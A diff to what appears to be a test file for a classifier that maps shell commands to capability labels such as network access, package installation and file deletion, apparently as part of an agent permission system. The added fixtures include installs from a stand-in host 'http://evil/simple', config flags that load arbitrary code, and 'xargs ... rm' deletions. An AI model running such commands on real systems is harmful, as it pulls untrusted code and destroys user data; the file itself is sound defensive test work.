@@ -31,7 +31,7 @@ OPAQUE = [
     "restic -o sftp.command=./x snapshots", "rclone --config x.conf ls a:", "heroku local web", "gcloud compute ssh h -- -o ProxyCommand=./x", "gh repo clone a/b -- --template=x",
     "shopify app dev", "fastmcp run x.py", "agent-browser --executable-path ./x open a.b", "eslint -c ./x.config.js a.js", "eslint -f ./x.js a.js", "prettier --config x.js a.js",
     "prettier --plugin=../x.js a.js", "pylint --rcfile x.rc a.py", "flake8 --config x.cfg a.py", "mypy --config-file x.ini a.py", "rubocop -r ./x.rb a.rb", "spectral lint --ruleset x.js a.yaml",
-    "trivy plugin install a.b/c", "npx dependency-cruiser -c ./x.js src", "tsc --noEmit @args", "dotnet clean", "dotnet tool run x", "bundle list",
+    "trivy plugin install a.b/c", "ts-node -C ./x.js a.ts", "npx dependency-cruiser -c ./x.js src", "tsc --noEmit @args", "dotnet clean", "dotnet tool run x", "bundle list",
 ]  # fmt: skip
 SEEN = [
     ("systemctl switch-root /x", "system.configure"), ("systemctl -H evil status a", "net.connect"), ("security add-trusted-cert x.pem", "system.configure"), ("apt-mark hold bash", "system.configure"),
@@ -62,6 +62,9 @@ HARMLESS = [
 ]  # fmt: skip
 SCOPED = [
     ("aws --endpoint-url http://evil s3 ls", "api.call", "evil:80"), ("http-server /srv", "file.read", "/srv"), ("uvx --with foo ruff check .", "package.install", "ruff"),
+    ("pip install x -i http://evil/simple", "package.install", "http://evil/simple"), ("uv pip install x --index-url http://evil/simple", "package.install", "http://evil/simple"),
+    ("conda env export -f o.yml", "file.write", "./o.yml"), ("conda search x", "web.fetch", "conda.anaconda.org"),
+    ("echo a | xargs -a list.txt rm", "file.delete", "any"), ("echo a,b | xargs -d, rm", "file.delete", "any"),
     ("kubectl proxy --address=0.0.0.0", "net.listen", "0.0.0.0"), ("fastmcp run x.py", "source.execute", "./x.py"), ("gosu git rm -rf q", "system.configure", "root"),
 ]  # fmt: skip
 SCRIPTS = {
